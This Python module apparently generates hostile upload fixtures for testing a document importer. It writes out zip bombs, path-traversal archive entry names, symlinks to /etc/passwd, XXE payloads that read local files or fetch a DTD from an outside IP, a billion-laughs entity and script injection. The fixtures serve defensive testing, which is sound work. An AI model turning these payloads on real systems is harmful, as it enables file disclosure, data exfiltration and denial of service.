"""Files that people hand in, made up: documents, exports, and what is hostile in two hundred ways."""

from __future__ import annotations

import io
import random
import stat
import struct
import warnings
import zipfile
from collections.abc import Iterator, Mapping

TALK = "# Harbour Days 2031 | Day 2\n\n## Buoys that listen\n\nDee Moor - Diver\n\nA buoy hears a whale.\n"
PIXEL = b"\x89PNG\r\n\x1a\n" + b"\0" * 40
_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'wordprocessingml.document.main+xml"/></Types>'
)
_RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="word/document.xml"/></Relationships>'
)


def zipped(files: Mapping[str, bytes | str], *, stored: bool = False) -> bytes:
    """Return an archive of files by their names, as they are."""
    made = io.BytesIO()
    how = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    with warnings.catch_warnings(), zipfile.ZipFile(made, "w", how) as archive:
        warnings.simplefilter("ignore")
        for name, data in files.items():
            info = zipfile.ZipInfo("x")
            info.filename, info.compress_type = name, how
            archive.writestr(info, data)
    return made.getvalue()


def word(*paragraphs: str, **more: bytes | str) -> bytes:
    """Return a Word document; ``more`` are further parts, ``__`` in whose names stands for a slash."""
    inside = "".join(
        f'<w:p><w:pPr><w:pStyle w:val="Heading{level}"/></w:pPr><w:r><w:t>{text}</w:t></w:r></w:p>'
        if level
        else f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"
        for text, level in ((one.lstrip("#").strip(), len(one) - len(one.lstrip("#"))) for one in paragraphs)
    )
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="Heading{n}"><w:name w:val="heading {n}"/></w:style>'
        for n in range(1, 4)
    )
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": _TYPES,
        "_rels/.rels": _RELATIONS,
        "word/document.xml": f'<w:document xmlns:w="{space}"><w:body>{inside}</w:body></w:document>',
        "word/styles.xml": f'<w:styles xmlns:w="{space}">{styles}</w:styles>',
    }
    return zipped({**parts, **{name.replace("__", "/"): data for name, data in more.items()}})


def talk_in_word(**more: bytes | str) -> bytes:
    said = ("# Harbour Days 2031 | Day 2", "## Buoys that listen", "Dee Moor - Diver", "It hears a whale.")
    return word(*said, **more)


PAGE = (
    "<html><head><title>x</title><script>alert(1)</script></head><body><h1>Harbour Days 2031 | Day 2</h1>"
    "<h2>Buoys that listen</h2><p>Dee Moor - Diver</p><p>It hears a whale.<img src=a.png></p></body></html>"
)

# ---------------------------------------------------------------------- hostile


def hostile() -> Iterator[tuple[str, bytes]]:
    """Return names and bytes of files of which nothing may be taken."""
    yield from _not_text()
    yield from _other_forms()
    yield from _archives()
    yield from _names_in_archives()
    yield from _documents()
    yield from _damaged()


def _not_text() -> Iterator[tuple[str, bytes]]:
    for suffix in (".md", ".txt", ".html"):
        yield f"empty{suffix}", b""
        yield f"blank{suffix}", b" \n\t\n \n"
        yield f"null{suffix}", TALK.encode() + b"\0more"
        yield f"nulls{suffix}", b"\0" * 5000
        yield f"huge{suffix}", (TALK * 40 + "\n").encode() * 4000
        yield f"noise{suffix}", random.Random(7).randbytes(30_000)  # noqa: S311 - made up, the same each time
        yield f"cyrillic{suffix}", "Заметки о конференции и докладах".encode("cp1251")
    for suffix in (".md", ".txt"):
        yield f"line{suffix}", b"# A talk\n\n" + b"word " * 30_000
        yield f"one-word{suffix}", b"a" * 900_000
        yield f"bells{suffix}", TALK.encode() + b"\x07\x1b[2J"
        yield f"many-lines{suffix}", b"\n" * 300_000 + b"x"
        yield f"deleted{suffix}", TALK.encode() + b"\x7f\x7f"
    yield "LICENSE.md", b"Permission is hereby granted, free of charge"
    yield "template.md", b"# {{ title }}\n\ntext\n"
    yield "pointer.md", b"version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 1\n"
    yield "page-template.html", b"<h1>{% block title %}</h1>"
    yield "deep.html", b"<div>" * 20_000 + b"x"
    yield "elements.html", b"<b>x</b>" * 50_000
    yield "declarations.html", b"<!x " * 2000
    yield "script.html", b"<script>alert(1)</script>"
    yield "hidden.html", b"<p style='display:none'>x</p>"


def _other_forms() -> Iterator[tuple[str, bytes]]:
    starts = {
        "pdf": b"%PDF-1.7\n1 0 obj << >> endobj\n",
        "png": PIXEL,
        "jpg": b"\xff\xd8\xff\xe0" + b"\0" * 20,
        "gif": b"GIF89a" + b"1" * 20,
        "gzip": b"\x1f\x8b\x08" + b"\0" * 20,
        "rar": b"Rar!\x1a\x07\x01\0" + b"x" * 20,
        "seven": b"7z\xbc\xaf\x27\x1c" + b"x" * 20,
        "exe": b"MZ" + b"\x90\0\x03" * 20,
        "elf": b"\x7fELF" + b"\x02\x01" * 20,
        "rtf": b"{\\rtf1 notes}",
        "ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 20,
        "zip": zipped({"a.md": TALK}),
    }
    for form, data in starts.items():
        for suffix in (".md", ".txt", ".html", ".docx", ".zip"):
            if (form, suffix) != ("zip", ".zip"):
                yield f"{form}-called{suffix}", data
    for name in (
        *(
            "a.docm",
            "a.dotm",
            "a.doc",
            "a.pdf",
            "a.exe",
            "a.js",
            "a.svg",
            "a.rtf",
            "a.odt",
            "a.pages",
            "a.tar.gz",
        ),
        *("a.rar", "a.7z", "a.md.exe", "a", "md", ".md.", "a.toml", "quoth.toml", "a.xml", "a.json", "a.csv"),
        *(
            "a.png",
            "a.ipynb",
            "a.zip.html.lnk",
            "a.php",
            "a.sh",
            "a.mdx.bat",
            "../a",
            "..",
            ".",
            "",
            "a.md\0.exe",
        ),
    ):
        yield name, TALK.encode()


def _archives() -> Iterator[tuple[str, bytes]]:
    yield "empty.zip", zipped({})
    yield "nothing.zip", b""
    yield "no-notes.zip", zipped({"a.png": PIXEL, "b.csv": "a,b"})
    yield "only-bad.zip", zipped({"a.md": b"\0\0", "b.docx": b"x"})
    yield "folders.zip", zipped({"a/": b"", "b/": b""})
    yield "bomb.zip", zipped({"a.md": b"0" * 19_000_000})
    yield "bombs.zip", zipped({f"{n}.md": b"0" * 900_000 for n in range(80)})
    yield "picture-bomb.zip", zipped({"a.md": TALK, "a.png": b"\0" * 18_000_000})
    yield "large-one.zip", zipped({"a.md": TALK, "a.png": b"\0" * 21_000_000})
    yield "many.zip", zipped({f"{n}.png": b"" for n in range(2_500)})
    yield "many-notes.zip", zipped({f"{n}.md": TALK for n in range(300)})
    yield "much-text.zip", zipped({f"{n}.md": TALK + _long(n) for n in range(9)})
    yield "deep.zip", zipped({"/".join("d" * 30) + "/a.md": TALK})
    yield "long-name.zip", zipped({"n" * 500 + ".md": TALK})
    inner = zipped({"a.md": TALK})
    for name in ("b.zip", "x/b.ZIP", "b.tar", "b.tar.gz", "b.7z", "b.rar", "b.tgz", "b.xz"):
        yield f"nested-{name.replace('/', '-')}.zip", zipped({"a.md": TALK, name: inner})
    yield "quine.zip", zipped({"r/r.zip": inner, "a.md": TALK})
    for kind in (stat.S_IFLNK, stat.S_IFCHR, stat.S_IFBLK, stat.S_IFIFO, stat.S_IFSOCK):
        yield f"kind-{kind}.zip", _of_kind("a.md", b"/etc/passwd", kind)
        yield f"kind-{kind}-beside.zip", _of_kind("b", b"../../secret", kind)
    yield "encrypted.zip", _flagged(zipped({"a.md": TALK}), 0x1)
    yield "strong.zip", _flagged(zipped({"a.md": TALK}), 0x41)
    yield "twice.zip", _two_of_one_name("a.md", "a.md")
    yield "twice-by-case.zip", _two_of_one_name("a.md", "A.MD")
    for way in (1, 6, 9, 12, 14, 93, 95, 99):
        yield f"way-to-pack-{way}.zip", _packed_as(zipped({"a.md": TALK}), way)
    yield "lying.zip", _lying_size(zipped({"a.md": TALK}, stored=True), 5_000)
    yield "prefixed.zip", b"%PDF-1.7\n" + zipped({"a.md": TALK})
    yield "script-first.zip", b"#!/bin/sh\nexit\n" + zipped({"a.md": TALK})
    yield "picture-first.zip", PIXEL + zipped({"a.md": TALK})


def _names_in_archives() -> Iterator[tuple[str, bytes]]:
    names = (
        *(
            "../a.md",
            "../../a.md",
            "x/../../a.md",
            "..\\a.md",
            "x\\..\\a.md",
            "/etc/cron.d/a.md",
            "//server/a.md",
        ),
        *(
            "C:/a.md",
            "C:\\a.md",
            "c:a.md",
            "x/./a.md",
            "./a.md",
            "x//a.md",
            "a.md\0.png",
            "x/\0/a.md",
            "a\n.md",
        ),
        *(
            "a\r.md",
            "a\x1b[2J.md",
            "\u202egnp.md",
            "a\u2066.md",
            "a\u200b\u2028.md",
            "a\x7f.md",
            "...../../a.md",
        ),
        *(
            "x/.. /a.md",
            " ../a.md",
            "x/ /a.md",
            "a:stream.md",
            "aux:/a.md",
            "\\\\?\\C:\\a.md",
            "file:///a.md",
        ),
        *(
            "x/../a.md",
            "a/b/../../../c.md",
            "..",
            "../",
            "/",
            "/a.md",
            "a\tb.md",
            "\ufeff../a.md",
            "a\x00b.md",
        ),
    )
    for number, name in enumerate(names):
        yield f"name-{number}.zip", zipped({"b.md": TALK, name: TALK})


def _documents() -> Iterator[tuple[str, bytes]]:
    yield "no-document.docx", zipped({"a.xml": "<a/>"})
    yield "empty.docx", word()
    yield "bomb.docx", talk_in_word(word__x=b"\0" * 18_000_000)
    yield "large.docx", talk_in_word(word__x=b"\0" * 21_000_000)
    for number, sign in enumerate(
        (
            '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
            '<!DOCTYPE a SYSTEM "http://198.51.100.7/a.dtd"><a/>',
            '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>',
            '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://198.51.100.7/p">%p;]><a/>',
        )
    ):
        yield f"entity-{number}.docx", talk_in_word(word__numbering_xml=sign, **{"word__footnotes.xml": sign})
    for name in ("../a.xml", "/a.xml", "C:/a.xml", "x\\a.xml", "a\0.xml"):
        yield f"part-{len(name)}-{name[:1].isalpha()}.docx", talk_in_word(**{name: "<a/>"})
    yield "encrypted.docx", _flagged(talk_in_word(), 0x1)
    yield "truncated.docx", talk_in_word()[:-200]
    yield "link.docx", _of_kind("word/document.xml", b"/etc/passwd", stat.S_IFLNK)
    yield "deep.docx", word("x", **{"word__document.xml": _deep()})


def _damaged() -> Iterator[tuple[str, bytes]]:
    whole = {".zip": zipped({"a.md": TALK * 50}), ".docx": talk_in_word()}
    for suffix, data in whole.items():
        for part in (4, 30, len(data) // 2, len(data) - 30, len(data) - 1):
            yield f"cut-{part}{suffix}", data[:part]
        yield f"head-alone{suffix}", b"PK\x03\x04" + b"\0" * 100
        yield f"end-alone{suffix}", b"PK\x05\x06" + b"\0" * 18
        broken = bytearray(data)
        broken[45:80] = b"\xff" * 35
        yield f"broken{suffix}", bytes(broken)
        lost = data.rfind(b"PK\x05\x06")
        yield f"lost-directory{suffix}", data[: lost + 16] + struct.pack("<I", 0xFFFFFF00) + data[lost + 20 :]


def _long(seed: int) -> str:
    made = random.Random(seed)  # noqa: S311 - made up, the same each time
    return "\n".join(
        " ".join(made.choice("abcdefgh") * made.randint(2, 9) for _ in range(12)) for _ in range(8_000)
    )


def _deep() -> str:
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    opened, ended = "<w:sdt><w:sdtContent>" * 3000, "</w:sdtContent></w:sdt>" * 3000
    return f'<w:document xmlns:w="{space}"><w:body>{opened}x{ended}</w:body></w:document>'


def _of_kind(name: str, target: bytes, kind: int) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("z.md", TALK)
        info = zipfile.ZipInfo(name)
        info.create_system, info.external_attr = 3, (kind | 0o777) << 16
        archive.writestr(info, target)
    return made.getvalue()


def _flagged(data: bytes, flags: int) -> bytes:
    """Return an archive whose entries claim flags, in both of their heads."""
    return _changed(data, b"PK\x03\x04", 6, struct.pack("<H", flags), b"PK\x01\x02", 8)


def _packed_as(data: bytes, method: int) -> bytes:
    return _changed(data, b"PK\x03\x04", 8, struct.pack("<H", method), b"PK\x01\x02", 10)


def _lying_size(data: bytes, size: int) -> bytes:
    return _changed(data, b"PK\x03\x04", 22, struct.pack("<I", size), b"PK\x01\x02", 24)


def _changed(data: bytes, local: bytes, at: int, value: bytes, central: bytes, there: int) -> bytes:
    changed = bytearray(data)
    for head, place in ((local, at), (central, there)):
        found = changed.find(head)
        while found >= 0:
            changed[found + place : found + place + len(value)] = value
            found = changed.find(head, found + 4)
    return bytes(changed)


def _two_of_one_name(one: str, other: str) -> bytes:
    made = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(made, "w") as archive:
        warnings.simplefilter("ignore")
        archive.writestr(one, TALK)
        archive.writestr(other, TALK)
    return made.getvalue()
